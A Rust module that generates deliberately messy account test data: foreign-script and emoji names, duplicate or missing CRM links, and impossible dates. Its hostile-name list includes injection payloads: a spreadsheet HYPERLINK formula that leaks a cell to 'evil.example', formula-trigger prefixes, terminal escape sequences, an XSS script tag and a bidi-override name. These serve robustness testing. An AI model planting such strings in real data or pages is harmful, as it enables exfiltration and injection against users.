//! The mess of real data. Each kind is in every book of 240 accounts at least once, and in a few percent of larger ones.

use jiff::civil::{Date, date};

use super::rng::Rng;
use super::types::{Account, Renewal};

/// Names that have broken programs: scripts, marks, emoji, control characters, things a spreadsheet would run.
const HOSTILE: [&str; 25] = [
    "東京製作所株式会社",
    "北京云帆科技有限公司",
    "한빛소프트웨어 주식회사",
    "شركة النور للتجارة",
    "חברת אור טכנולוגיות בע\"מ",
    "सूर्योदय इंफोटेक प्राइवेट लिमिटेड",
    "บริษัท ช้างทอง จำกัด",
    "Cafe\u{301} Nume\u{301}rique S\u{327}a\u{302}",
    "Z\u{335}a\u{334}l\u{337}g\u{338}o\u{336} Partners",
    "🚀 Rocket Retail 🛒",
    "Family 👨‍👩‍👧‍👦 Care 🏳️‍🌈",
    "Maria \"Mia\" O'Hara & Sons",
    "Tab\tSeparated\tSystems",
    "Newline\nNetworks",
    "Title\u{1b}]0;pwned\u{7} Hijack Media",
    "Clear\u{1b}[2J\u{1b}[H Screen Studios",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
    "+1 Payments",
    "-1+cmd Holdings",
    "@SUM(A1:A9) Analytics",
    "Right\u{202e}tfeL ot Logistics",
    "Strauß & Søn Åkeri AB",
    "C1\u{9b}31m Control",
    "<script>alert(1)</script> Web Works",
    "A Very Long Company Name That Somebody Pasted With Its Whole Legal Description Including All Of Its Subsidiaries And Affiliates Worldwide Holdings International Limited Partnership",
];

const PROBLEMS: usize = 8;

/// Which kind of mess, if any, account `i` gets; the order is fixed so that a small book has as many kinds as fit.
pub(super) fn kind(i: usize, rng: &mut Rng) -> Option<usize> {
    let kinds = HOSTILE.len() + PROBLEMS;
    if i % 7 == 3 && i / 7 < kinds {
        // Problems first: a book of 60 has them all.
        return Some((i / 7 + HOSTILE.len()) % kinds);
    }
    rng.chance(0.03).then(|| rng.below(kinds))
}

/// Spoils an account (and its open renewal).
pub(super) fn spoil(kind: usize, i: usize, account: &mut Account, renewal: Option<&mut Renewal>) {
    if let Some(name) = HOSTILE.get(kind) {
        // A second account with the same strange name would be another kind of mess.
        account.name = if i % 7 == 3 && i < 7 * (HOSTILE.len() + PROBLEMS) {
            (*name).into()
        } else {
            format!("{name} {i}").into()
        };
        return;
    }
    let set_date = |when: Option<Date>| {
        account.renewal_date = when;
        if let Some(renewal) = renewal {
            renewal.due = when;
            renewal.notice_deadline = None;
        }
    };
    match kind - HOSTILE.len() {
        0 => set_date(None),
        1 => {
            account.gainsight_name = Some(other_spelling(&account.name).into());
            account.linked = false;
            account.gainsight_domain = i.is_multiple_of(2);
            account.in_gainsight = true;
            account.in_salesforce = true;
        }
        2 => {
            account.in_salesforce = true;
            account.in_gainsight = false;
        }
        3 => {
            account.in_salesforce = false;
            account.in_gainsight = true;
            account.linked = false;
        }
        4 => account.start = date(202, 3, 1),
        5 => set_date(Some(date(2099, 12, 31))),
        6 => set_date(Some(date(202, 11, 30))),
        _ => account.start = date(2099, 1, 1),
    }
}

/// The same company as another person would type it.
pub(super) fn other_spelling(name: &str) -> String {
    const FORMS: [(&str, &str); 12] = [
        (" Inc.", ", Incorporated"),
        (" LLC", ""),
        (" Corp.", " Corporation"),
        (" GmbH", " Gesellschaft mbH"),
        (" AG", " Aktiengesellschaft"),
        (" Ltd.", " Limited"),
        (" Ltd", " Limited"),
        (" plc", " PLC"),
        (" AB", " (AB)"),
        (" KK", " Kabushiki Kaisha"),
        (" Co., Ltd.", " Co Ltd"),
        (" Labs", " Laboratories"),
    ];
    for (short, long) in FORMS {
        if let Some(stem) = name.strip_suffix(short) {
            return format!("{stem}{long}");
        }
    }
    match name.split_once(' ') {
        Some((first, rest)) => format!("{} {rest}", first.to_uppercase()),
        None => format!("The {name} Company"),
    }
}
